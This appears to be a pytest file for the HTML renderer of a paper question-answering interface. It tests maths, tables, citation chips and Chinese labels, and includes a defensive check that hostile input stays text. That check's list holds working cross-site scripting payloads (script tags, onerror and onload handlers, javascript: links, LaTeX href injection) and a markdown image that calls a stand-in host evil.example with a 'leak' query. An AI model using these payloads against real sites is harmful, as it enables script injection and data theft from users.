"""Text of papers, models and readers can do nothing on a page; maths, code and tables are drawn."""

import re
from html.parser import HTMLParser

import pytest

from ui.pages.labels import Labels
from ui.pages.render import answer_html, chip_html, note_html, plain_text, question_html, turn_html
from ui.pages.safe_html import escaped, prose_html, quote_html

WORDS = Labels("en")
HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](http://evil.example/leak?q=1)",
    "[click](javascript:alert(1))",
    "<javascript:alert(1)>",
    "http://evil.example/",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\unicode{<script>}$",
    "```html\n<script>alert(1)</script>\n```",
    "| a |\n|---|\n| <img src=http://evil.example> |",
    "${alert(1)} {{constructor}}",
    "\ue0000\ue001 \u202eevil\x00",
)
ALLOWED = set(
    "article h3 h4 span p div blockquote button footer details summary ol ul li cite strong em s code pre table thead "
    "tbody tr th td math mrow mi mn mo mtext msub msup msubsup mfrac msqrt mroot mstyle munder mover munderover mtable "
    "mtr mtd br hr".split()
)

HARMLESS = set(
    "class type role title aria-label display mathvariant stretchy fence separator form columnalign rowspacing".split()
)


class Tags(HTMLParser):
    """What a browser would make of it."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.attributes = [], []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += attrs


def citation(text="We used the Adam optimizer.", number=1, **other):
    return {
        "number": number, "paper": "a1b2c3d4e5f6", "file": "/papers/x.pdf", "title": "Attention", "pages": [7, 7],
        "heading": ["5 Training"], "quote": text, "span": [120, 147], "rects": [],
    } | other  # fmt: skip


def answer(*sentences, grounding="grounded", **other):
    return {
        "answer": " ".join(each["text"] for each in sentences), "grounding": grounding, "sentences": list(sentences),
        "passages": [], "seconds": {"total": 3.21}, "model": {"name": "tiny:1b"},
    } | other  # fmt: skip


def sentence(text="They used Adam.", *citations, note="", about=""):
    return {
        "text": text, "supported": bool(citations), "citations": list(citations), "note": note, "about": about,
    }  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_text(text):
    hostile = citation(text, title=text, heading=[text], paper=text, table=[text])
    passage = {"paper": text, "title": text, "heading": [text], "pages": [1, 2], "text": text}
    for html in (
        escaped(text),
        quote_html(text),
        prose_html(text),
        note_html(text),
        question_html(WORDS, text, text + "!"),
        turn_html(WORDS, text, text, answer(sentence(text, hostile, note=text), sentence(f"“{text}”", hostile))),
        turn_html(WORDS, text, text, answer(sentence(text, hostile, about=text), sentence(f"“{text}”", about=text))),
        turn_html(WORDS, text, text, answer(sentence(text), grounding=text, model={"name": text})),
        answer_html(WORDS, answer(grounding="refused", passages=[passage]) | {"answer": text}),
    ):
        seen = Tags(html)
        assert set(seen.tags) <= ALLOWED, set(seen.tags) - ALLOWED
        for name, value in seen.attributes:
            assert name in HARMLESS or name.startswith("data-"), (name, value)
        assert "\x00" not in html and "\u202e" not in html


def test_an_answer_from_paper_to_paper_names_them():
    said = answer(sentence("They used Adam.", citation(), about="Attention"), sentence("“So did we.”", citation()))
    html = answer_html(WORDS, said)
    assert html.count('<h4 class="about">Attention</h4>') == 1
    assert html.index(">Attention</h4>") < html.index("They used Adam.")
    assert plain_text(said).startswith("Attention: They used Adam. [1]\n“So did we.” [1]")


def test_maths_is_drawn_and_money_is_not():
    assert "<msup>" in prose_html("The cost is $O(n^2)$ for each layer.")
    assert "<mfrac>" in quote_html(r"we scale by \(\frac{1}{\sqrt{d_k}}\) as")
    assert 'display="block"' in prose_html("$$a = b$$")
    assert "<math" in prose_html("with $x$ and $d_k$")
    for money in ("It costs $5 and $10 a month.", "from 5$ or US$ to 7$", "costs $100 or less than $200", "a $ b $ c"):
        assert "<math" not in prose_html(money)
        assert money in prose_html(money)


def test_broken_latex_stays_as_it_was_written():
    for text in (r"$\frac{$", r"$\begin{matrix} a$", "$_{^$", r"\(\)"):
        assert escaped(text) in quote_html(text) or "<math" in quote_html(text)


def test_code_tables_and_emphasis_of_a_model_are_drawn():
    table = prose_html("| model | BLEU |\n|---|---|\n| base | 27.3 |")
    assert "<table>" in table and "<td>27.3</td>" in table
    assert "<code>train()</code>" in prose_html("Call `train()` **twice**.")
    assert "<strong>twice</strong>" in prose_html("Call `train()` **twice**.")
    assert "<pre><code" in prose_html("```python\nx = 1\n```")


def test_a_papers_own_words_are_not_read_as_markup():
    assert quote_html("a * b * c and `d` and d_k * d_v") == "a * b * c and `d` and d_k * d_v"


def test_a_chip_names_its_source_and_where_to_look():
    html = chip_html(WORDS, citation("We used “Adam” & SGD."))
    assert 'data-paper="a1b2c3d4e5f6" data-start="120" data-end="147" data-page="7"' in html
    assert html.startswith('<button type="button"') and ">1</button>" in html
    label = dict(Tags(html).attributes)["aria-label"]
    assert "Source 1" in label and "5 Training, p. 7" in label and "We used “Adam” & SGD." in label


def test_unsupported_quoted_and_refused_answers_look_their_part():
    html = answer_html(WORDS, answer(sentence("Nobody said that."), grounding="ungrounded"))
    assert "unsupported" in html and "<button" in html  # copying
    assert "chip" not in html
    html = answer_html(WORDS, answer(sentence("“We used Adam.”", citation(), note="Lion is not named there")))
    assert '<blockquote class="sentence" title=' in html and "(Lion is not named there)" in html
    html = answer_html(Labels("zh"), answer(sentence("“We used Adam.”", citation(), note="Lion is not named there")))
    assert "没有提到 Lion" in html and "not named" not in html
    passages = [{"paper": "p", "title": f"T{n}", "heading": [], "pages": [n, n + 1], "text": "words", "span": [n, 9]}
                for n in range(1, 6)]  # fmt: skip
    html = answer_html(WORDS, answer(grounding="refused", passages=passages) | {"answer": "Searched: x"})
    assert html.count('class="open"') == 3 and "Searched: x" in html and "pp. 1–2" in html


def test_a_turn_that_another_program_kept_is_shown_as_far_as_it_goes():
    assert "What?" in turn_html(WORDS, "What?", "What?", {})


def test_copied_text_holds_the_numbers_and_their_sources():
    text = plain_text(answer(sentence("They used Adam.", citation()), sentence("For 12 hours.", citation(number=2))))
    assert "They used Adam. [1]\nFor 12 hours. [2]" in text
    assert "[1] Attention, p. 7: “We used the Adam optimizer.”" in text
    assert re.search(r"^\[2\] ", text, re.MULTILINE)


def test_chinese_words():
    html = turn_html(Labels("zh"), "为什么？", "为什么？", answer(sentence("因为。", citation())))
    assert "每句话均已核实" in html and "来源 1" in html and "第 7 页" in html


def test_a_row_is_shown_under_its_caption_and_header():
    row = citation("Large | 88.0", table=["Table 1: F1 of taggers.", "Model | web\nsize | test"])
    html = answer_html(WORDS, answer(sentence("“Large | 88.0”", row)))
    assert '<p class="table-head">Table 1: F1 of taggers.</p><p class="table-head">Model | web' in html
    assert html.index("table-head") < html.index("Large | 88.0</blockquote>")
